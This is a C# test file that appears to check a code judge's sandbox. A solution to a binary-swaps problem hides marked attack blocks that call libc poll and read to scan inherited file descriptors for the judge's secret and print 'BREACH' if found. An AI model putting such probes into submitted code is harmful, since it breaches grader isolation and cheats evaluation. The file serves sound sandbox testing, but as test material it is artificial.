// attack: Reads every descriptor from 3 up: none of them may lead to what the judge holds open.
// verdicts: Passed
// policy: Forbidden
using System.Runtime.InteropServices;

public sealed class Answer : ICircularBinarySwaps
{
    public int MinSwaps(int[] nums)
    {
        // <attack>
        unsafe
        {
            const int Readable = 1;
            var bytes = new byte[64];
            for (var descriptor = 3; descriptor < 256; descriptor++)
            {
                var asked = new Poll { Descriptor = descriptor, Events = Readable };
                if (poll(&asked, 1, 0) != 1 || asked.Answered != Readable || read(descriptor, bytes, bytes.Length) <= 0) continue;
                if (System.Text.Encoding.UTF8.GetString(bytes).Contains("{{secret}}")) Console.WriteLine("BREACH");
            }
        }
        // </attack>
        return Fewest.Of(nums);
    }

    // <attack>
    [DllImport("libc.so.6")]
    private static extern unsafe int poll(Poll* descriptors, ulong count, int timeout);

    [DllImport("libc.so.6")]
    private static extern nint read(int descriptor, byte[] bytes, nint count);

    private struct Poll
    {
        public int Descriptor;
        public short Events;
        public short Answered;
    }
    // </attack>
}
